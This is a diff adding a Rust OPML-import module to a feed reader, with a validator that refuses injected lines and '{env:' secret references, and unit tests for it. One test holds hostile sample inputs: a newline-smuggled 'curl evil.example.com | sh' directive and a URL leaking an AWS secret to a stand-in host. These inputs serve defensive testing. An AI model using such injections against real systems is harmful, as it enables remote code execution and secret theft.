@@ -0,0 +1,218 @@
+//! Turning the subscription list another feed reader exports into config
+//! lines. Writing one is `export::opml`.
+
+use std::collections::HashSet;
+
+use feedburst::edit::feed_line;
+use feedburst::error::Error;
+use feedburst::html::tags;
+
+/// A feed listed in an OPML file.
+#[derive(Clone, Debug, PartialEq)]
+pub struct Outline {
+    pub name: String,
+    pub url: String,
+    /// The folders the feed is in, outermost first, joined with " / ".
+    pub folder: Option<String>,
+}
+
+/// Every feed in an OPML document, in order. Outlines without an `xmlUrl` are
+/// folders, and the feeds inside them remember which one they're in. A feed
+/// without a title is named after its URL.
+pub fn outlines(text: &str) -> Vec<Outline> {
+    let mut feeds = Vec::new();
+    // The open outlines: the folder's name, or `None` for anything else
+    let mut open: Vec<Option<String>> = Vec::new();
+    for tag in tags(text) {
+        if tag.name != "outline" {
+            continue;
+        }
+        if tag.closing {
+            open.pop();
+            continue;
+        }
+        let name = tag
+            .attribute("title")
+            .or_else(|| tag.attribute("text"))
+            .map(str::trim)
+            .filter(|name| !name.is_empty());
+        match tag.attribute("xmlurl").map(str::trim) {
+            Some(url) if !url.is_empty() => {
+                let folders: Vec<&str> = open.iter().flatten().map(String::as_str).collect();
+                feeds.push(Outline {
+                    name: name.unwrap_or(url).to_string(),
+                    url: url.to_string(),
+                    folder: if folders.is_empty() {
+                        None
+                    } else {
+                        Some(folders.join(" / "))
+                    },
+                });
+                if !tag.self_closing {
+                    open.push(None);
+                }
+            }
+            _ if !tag.self_closing => open.push(name.map(String::from)),
+            _ => (),
+        }
+    }
+    feeds
+}
+
+/// Config lines for `feeds`, with a blank line and a comment naming each
+/// folder before the feeds in it. Feeds whose URL is in `urls` are left out, and names already
+/// in `names` get a number after them, so importing doesn't clash with the
+/// config. Returns the lines and how many feeds they have.
+///
+/// The file can come from anywhere, so a name, folder or URL that could
+/// break out of its line, like one with a newline and a `command` after it,
+/// or pull a secret in with `{env:NAME}`, is refused.
+pub fn config_lines(
+    feeds: &[Outline],
+    names: &HashSet<String>,
+    urls: &HashSet<String>,
+) -> Result<(String, usize), Error> {
+    for feed in feeds {
+        let values = [Some(&feed.name), Some(&feed.url), feed.folder.as_ref()];
+        if let Some(value) = values.iter().flatten().find(|value| !is_safe(value)) {
+            return Err(Error::Msg(format!(
+                "Refusing to import {:?}, which has a control character or `{{env:` in it",
+                value
+            )));
+        }
+    }
+    let mut names = names.clone();
+    let mut urls = urls.clone();
+    let mut out = String::new();
+    let mut folder = None;
+    let mut count = 0;
+    for feed in feeds {
+        if !urls.insert(feed.url.clone()) {
+            debug!("Skipping <{}>, which is already in the config", feed.url);
+            continue;
+        }
+        if feed.folder != folder {
+            match feed.folder {
+                Some(ref name) => out.push_str(&format!("\n# {}\n", name)),
+                None => out.push('\n'),
+            }
+        }
+        folder = feed.folder.clone();
+
+        // Config names are quoted and URLs are in angle brackets
+        let base = feed.name.replace('"', "'");
+        let mut name = base.clone();
+        let mut n = 2;
+        while !names.insert(name.clone()) {
+            name = format!("{} ({})", base, n);
+            n += 1;
+        }
+        let url = feed.url.replace('>', "%3E");
+        out.push_str(&feed_line(&name, &url, &[]));
+        out.push('\n');
+        count += 1;
+    }
+    Ok((out, count))
+}
+
+/// Whether `value` can go in a config line as it is.
+fn is_safe(value: &str) -> bool {
+    !value.chars().any(char::is_control) && !value.contains("{env:")
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    const OPML: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
+<opml version="1.0">
+  <head><title>My subscriptions</title></head>
+  <body>
+    <outline text="Witchy" type="rss" xmlUrl="http://witchycomic.com/rss"/>
+    <outline text="Comics" title="Comics">
+      <outline text="Long Ones">
+        <outline title="Cucumber Quest" xmlUrl="http://cucumber.example.com/rss"></outline>
+      </outline>
+      <outline text="Say &quot;Hi&quot;" xmlUrl="http://hi.example.com/?a=1&amp;b=2"/>
+    </outline>
+    <outline xmlUrl="http://untitled.example.com/feed"/>
+  </body>
+</opml>"#;
+
+    #[test]
+    fn test_outlines() {
+        let outline = |name: &str, url: &str, folder: Option<&str>| Outline {
+            name: name.into(),
+            url: url.into(),
+            folder: folder.map(From::from),
+        };
+        assert_eq!(
+            outlines(OPML),
+            vec![
+                outline("Witchy", "http://witchycomic.com/rss", None),
+                outline(
+                    "Cucumber Quest",
+                    "http://cucumber.example.com/rss",
+                    Some("Comics / Long Ones")
+                ),
+                outline(
+                    "Say \"Hi\"",
+                    "http://hi.example.com/?a=1&b=2",
+                    Some("Comics")
+                ),
+                outline(
+                    "http://untitled.example.com/feed",
+                    "http://untitled.example.com/feed",
+                    None
+                ),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_config_lines() {
+        let names = vec!["Witchy".to_string()].into_iter().collect();
+        let urls = vec!["http://cucumber.example.com/rss".to_string()]
+            .into_iter()
+            .collect();
+        let (lines, count) = config_lines(&outlines(OPML), &names, &urls).unwrap();
+        assert_eq!(count, 3);
+        assert_eq!(
+            lines,
+            concat!(
+                "\"Witchy (2)\" <http://witchycomic.com/rss>\n",
+                "\n# Comics\n",
+                "\"Say 'Hi'\" <http://hi.example.com/?a=1&b=2>\n",
+                "\n",
+                "\"http://untitled.example.com/feed\" <http://untitled.example.com/feed>\n",
+            )
+        );
+        let feeds = feedburst::parser::parse_config(&lines).unwrap();
+        assert_eq!(feeds.len(), 3);
+    }
+
+    #[test]
+    fn test_malicious_opml() {
+        let import = |outline: &str| {
+            let opml = format!("<opml><body>{}</body></opml>", outline);
+            config_lines(&outlines(&opml), &HashSet::new(), &HashSet::new())
+        };
+        // A folder whose name ends its comment line and starts a directive
+        assert!(import(
+            r#"<outline text="X&#10;command sh -c 'curl evil.example.com | sh'">
+<outline text="Comic" xmlUrl="http://comic.example.com/rss"/></outline>"#
+        )
+        .is_err());
+        assert!(
+            import(r#"<outline text="A&#13;root /" xmlUrl="http://a.example.com/rss"/>"#).is_err()
+        );
+        assert!(import(
+            r#"<outline text="Leaky" xmlUrl="http://evil.example.com/?k={env:AWS_SECRET}"/>"#
+        )
+        .is_err());
+        assert!(
+            import(r#"<outline text="{env:HOME}" xmlUrl="http://a.example.com/rss"/>"#).is_err()
+        );
+        assert!(import(r#"<outline text="Fine" xmlUrl="http://a.example.com/rss"/>"#).is_ok());
+    }
+}